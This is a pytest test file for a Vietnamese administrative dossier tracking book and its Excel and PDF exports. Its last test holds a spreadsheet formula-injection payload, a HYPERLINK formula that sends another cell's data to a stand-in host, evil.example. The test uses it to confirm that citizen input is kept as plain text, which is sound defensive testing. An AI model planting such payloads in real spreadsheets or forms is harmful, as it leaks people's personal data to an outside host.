"""Mẫu 06 Sổ theo dõi hồ sơ: rows from the events, the Excel workbook and the PDF."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from motcua.dossiers.book import (
    HEADER_ROW,
    HEADINGS,
    BookRangeError,
    tracking_book_pdf,
    tracking_book_rows,
    tracking_book_xlsx,
)
from motcua.dossiers.services import Applicant

from .conftest import act, pdf_text, submit, vn

pytestmark = pytest.mark.django_db

EXPECTED_HEADINGS = (
    "STT",
    "Mã hồ sơ",
    "Tên TTHC",
    "Số lượng hồ sơ",
    "Tên cá nhân, tổ chức",
    "Địa chỉ, số điện thoại",
    "Cơ quan chủ trì giải quyết",
    "Ngày nhận hồ sơ",
    "Ngày hẹn trả",
    "Ngày chuyển hồ sơ",
    "Ngày nhận kết quả",
    "Ngày trả kết quả",
    "Ký nhận",
    "Ghi chú",
)


@pytest.fixture
def week(center, other_center, procedure, staff, unit):
    """Three dossiers of the center in the week of 7/7/2025, one before it, one elsewhere."""
    before, _ = submit(center, procedure, key="b", now=vn(2025, 7, 4, 16, 0))
    first, _ = submit(center, procedure, key="1", now=vn(2025, 7, 7, 9, 5))
    second, _ = submit(
        center,
        procedure,
        key="2",
        now=vn(2025, 7, 8, 14, 0),
        applicant=Applicant(name="Lê Văn Đức", phone="0987654321"),
    )
    third, _ = submit(center, procedure, key="3", now=vn(2025, 7, 11, 23, 59))
    foreign, _ = submit(
        other_center,
        procedure,
        key="x",
        now=vn(2025, 7, 8, 8, 0),
        applicant=Applicant(name="Lê Văn Bí Mật"),
    )
    r, s, lead = staff["reception"], staff["specialist"], staff["leader"]
    act(first, r, "reception", "assign", vn(2025, 7, 7, 10, 0), unit_id=unit.pk)
    act(first, s, "specialist", "submit_for_signature", vn(2025, 7, 8, 9, 0))
    act(first, lead, "leader", "sign", vn(2025, 7, 9, 8, 30))
    act(first, r, "reception", "return_result", vn(2025, 7, 9, 14, 0), delivery="at_center")
    act(second, r, "reception", "refuse", vn(2025, 7, 8, 14, 10), note="Không thuộc thẩm quyền")
    return {"before": before, "first": first, "second": second, "third": third, "foreign": foreign}


class TestTrackingBookRows:
    def test_one_row_per_dossier_received_in_the_range_of_this_center_only(self, center, week):
        rows = tracking_book_rows(center, date(2025, 7, 7), date(2025, 7, 11))
        assert [r.code for r in rows] == [week[k].code for k in ("first", "second", "third")]
        assert [r.number for r in rows] == [1, 2, 3]

    def test_dates_come_from_the_events(self, center, week, unit):
        first = tracking_book_rows(center, date(2025, 7, 7), date(2025, 7, 7))[0]
        assert first.received_at == vn(2025, 7, 7, 9, 5)
        assert first.due_at == vn(2025, 7, 10, 9, 5)
        assert first.transferred_at == vn(2025, 7, 7, 10, 0)
        assert first.result_received_at == vn(2025, 7, 9, 8, 30)
        assert first.returned_at == vn(2025, 7, 9, 14, 0)
        assert first.lead_agency == unit.name
        assert first.applicant == "Nguyễn Thị Ánh Tuyết"
        assert first.note.startswith("Đã trả kết quả")

    def test_a_refusal_is_noted_with_its_reason(self, center, week):
        second = tracking_book_rows(center, date(2025, 7, 8), date(2025, 7, 8))[0]
        assert second.address_phone == "0987654321"
        assert "Từ chối tiếp nhận (Mẫu 03) 08/07/2025: Không thuộc thẩm quyền" in second.note
        assert second.transferred_at is None and second.returned_at is None

    def test_refuses_a_reversed_or_too_long_range(self, center):
        with pytest.raises(BookRangeError):
            tracking_book_rows(center, date(2025, 7, 8), date(2025, 7, 7))
        with pytest.raises(BookRangeError):
            tracking_book_rows(center, date(2025, 1, 1), date(2026, 1, 2))
        assert tracking_book_rows(center, date(2024, 1, 1), date(2024, 12, 31)) == []


class TestTrackingBookXlsx:
    def test_opens_with_the_vietnamese_headings_and_one_row_per_dossier(self, center, week):
        assert HEADINGS == EXPECTED_HEADINGS
        content = tracking_book_xlsx(center, date(2025, 7, 7), date(2025, 7, 11))
        sheet = load_workbook(io.BytesIO(content)).active
        headings = tuple(c.value for c in sheet[HEADER_ROW])
        assert headings == EXPECTED_HEADINGS
        assert all(c.font.b for c in sheet[HEADER_ROW])
        assert sheet[HEADER_ROW][0].border.left.style == "thin"
        assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"
        assert sheet.column_dimensions["C"].width >= 30
        body = [row for row in sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True)]
        assert [row[1] for row in body] == [week[k].code for k in ("first", "second", "third")]
        assert "Lê Văn Bí Mật" not in {row[4] for row in body}
        first = body[0]
        assert first[0] == 1 and first[3] == 1
        assert first[7] == datetime(2025, 7, 7, 9, 5)  # Vietnam time, as the book is read
        assert first[11] == datetime(2025, 7, 9, 14, 0)
        assert sheet.cell(HEADER_ROW + 1, 8).number_format == "dd/mm/yyyy hh:mm"
        assert "Trung tâm Phục vụ hành chính công xã Hiền Lương" in sheet["A1"].value

    def test_the_last_minute_of_the_last_day_is_in(self, center, week):
        content = tracking_book_xlsx(center, date(2025, 7, 11), date(2025, 7, 11))
        sheet = load_workbook(io.BytesIO(content)).active
        codes = [r[1] for r in sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True)]
        assert codes == [week["third"].code]


class TestTrackingBookPdf:
    def test_has_the_title_the_codes_and_the_names(self, center, week):
        text = pdf_text(tracking_book_pdf(center, date(2025, 7, 7), date(2025, 7, 11)))
        assert "SỔ THEO DÕI HỒ SƠ" in text
        assert "Lê Văn Đức" in text
        assert "Lê Văn Bí Mật" not in text
        for key in ("first", "second", "third"):
            assert week[key].code in text.replace(" ", "")


class TestFormulaInjection:
    def test_what_a_citizen_typed_is_text_never_a_formula(self, center, procedure):
        """Found by the black-box review: a name typed at the kiosk as =HYPERLINK(…) became a
        live formula in the officers' register (it could carry other rows' data out)."""
        payload = '=HYPERLINK("http://evil.example/?"&E8,"x")'
        submit(
            center,
            procedure,
            key="f",
            now=vn(2025, 7, 7, 9, 0),
            applicant=Applicant(name=payload, address="=1+1", phone="0912345678"),
        )
        content = tracking_book_xlsx(center, date(2025, 7, 7), date(2025, 7, 7))
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            xml = b"".join(archive.read(n) for n in sheets)
        assert b"<f>" not in xml
        sheet = load_workbook(io.BytesIO(content)).active
        values = {c.value for row in sheet.iter_rows() for c in row}
        assert payload in values
